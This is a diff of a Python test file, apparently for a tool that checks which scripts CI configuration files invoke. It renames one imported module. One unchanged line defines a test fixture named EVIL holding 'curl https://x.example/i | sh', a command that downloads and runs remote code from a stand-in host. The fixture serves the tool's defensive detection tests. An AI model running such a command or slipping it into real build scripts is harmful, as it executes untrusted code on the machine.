@@ -21,7 +21,7 @@ from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
-from gatekeeper.classify import ciruns, ciwalk
+from gatekeeper.classify import ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > ran.txt\n"
 EVIL = HELPER + "curl https://x.example/i | sh\n"
@@ -63,7 +63,7 @@ DEFINITIONS = LINE_DEFINITIONS
 def _names(path: str, template: str, line: str, target: str = "tools/gen") -> bool:
     text = template.format(line=yaml_quoted(line) if path.endswith(".yml") else line)
     scripts, _, folders = ciruns.named_in(path, text)
-    return any(ciwalk.reaches(pattern, target) for named in scripts for pattern in ciruns.resolved(
+    return any(walkpaths.reaches(pattern, target) for named in scripts for pattern in ciruns.resolved(
         named, path, folders))
 
 
